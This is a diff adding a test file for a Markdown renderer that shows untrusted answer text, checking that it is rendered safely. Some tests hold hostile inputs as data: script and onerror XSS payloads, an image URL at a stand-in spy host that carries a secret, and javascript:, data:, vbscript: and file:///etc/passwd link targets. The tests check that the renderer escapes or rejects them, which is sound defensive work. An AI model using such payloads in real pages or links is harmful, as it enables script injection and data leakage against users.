@@ -1,0 +1,96 @@
+import { describe, expect, test } from 'bun:test';
+import { MantineProvider } from '@mantine/core';
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import ReactMarkdown from 'react-markdown';
+import remarkGfm from 'remark-gfm';
+import { splitBlocks } from './blocks.ts';
+import { linkTarget } from './link-target.ts';
+
+// The texts ask for the language that the person chose; a browser would know.
+Object.assign(globalThis, { localStorage: { getItem: () => 'en' } });
+const { Markdown } = await import('./markdown.tsx');
+
+const rendered = (text: string, isGrowing = false): string =>
+  renderToStaticMarkup(
+    createElement(MantineProvider, null, createElement(Markdown, { text, isGrowing })),
+  ).replace(/<style[\s\S]*?<\/style>/g, '');
+
+describe('an answer is a stranger’s text', () => {
+  test('script and other elements are shown as the text they are', () => {
+    const html = rendered('Hi <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<b>no</b>');
+    expect(html).not.toMatch(/<script|<img|<b>|<[a-z]+[^>]*onerror/);
+    expect(html).toContain('&lt;script&gt;');
+  });
+
+  test('an image is not loaded: its address is shown', () => {
+    const html = rendered('![a cat](https://spy.example/x.png?said=secret)');
+    expect(html).not.toMatch(/<img|src=|url\(|<link/);
+    expect(html).toContain('https://spy.example/x.png?said=secret');
+    expect(html).toContain('a cat');
+  });
+
+  test('links lead to the web and to mailboxes, in a page that learns nothing of this one', () => {
+    const html = rendered('[a](https://a.example/x) https://b.example [c](mailto:c@d.example)');
+    expect(html.match(/<a [^>]*>/g)).toHaveLength(3);
+    for (const [anchor] of html.matchAll(/<a [^>]*>/g)) {
+      expect(anchor).toContain('rel="noreferrer noopener"');
+      expect(anchor).toContain('target="_blank"');
+    }
+    for (const address of [
+      'javascript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      'data:text/html,x',
+      'vbscript:x',
+      'file:///etc/passwd',
+      'blob:https://a.example/1',
+      '//a.example',
+      '/console/keys',
+      '#top',
+      '',
+    ]) {
+      expect(linkTarget(address)).toBeNull();
+      expect(rendered(`[x](<${address}>)`)).not.toContain('<a ');
+    }
+  });
+});
+
+describe('markdown', () => {
+  test('in blocks it is what it is in one piece', () => {
+    const text = [
+      '# Title',
+      'See [it][1] and **this**.\nA second line.',
+      '- one\n\n  more\n- two\n  1. deep',
+      '| a | b |\n| - | - |\n| 1 | 2 |',
+      '> quoted\n>\n> more',
+      '```ts\nconst a = 1;\n\nconst b = 2;\n```',
+      '[1]: https://a.example/page',
+      'The end.',
+    ].join('\n\n');
+    const plain = (markdown: string) =>
+      renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins: [remarkGfm] }, markdown));
+    const { blocks, definitions } = splitBlocks(text);
+    const joined = blocks.map((block) => plain(`${block}\n\n${definitions}`)).join('\n');
+    const spaceless = (html: string) => html.replace(/\s+/g, ' ').trim();
+    expect(spaceless(joined)).toBe(spaceless(plain(text)));
+    expect(rendered(text)).toContain('href="https://a.example/page"');
+  });
+
+  test('what is still open while it grows is closed, and what is finished is left alone', () => {
+    expect(rendered('a **bold', true)).toContain('<strong>bold</strong>');
+    expect(rendered('a **bold', false)).toContain('**bold');
+    expect(rendered('see [this](https://a.exam', true)).not.toContain('https://a.exam');
+  });
+
+  test('code is shown to the letter', () => {
+    const html = rendered('```html\n<b>&amp;</b>\n\nx\n```');
+    expect(html).toContain('&lt;b&gt;&amp;amp;&lt;/b&gt;');
+    expect(html).toContain('>html<');
+  });
+
+  test('footnotes of two answers do not meet, and headings are of one level', () => {
+    const html = rendered('# A\n\n### B[^1]\n\n[^1]: note');
+    expect(html).not.toMatch(/<h[124-6]/);
+    expect(html).not.toContain('id="user-content');
+  });
+});
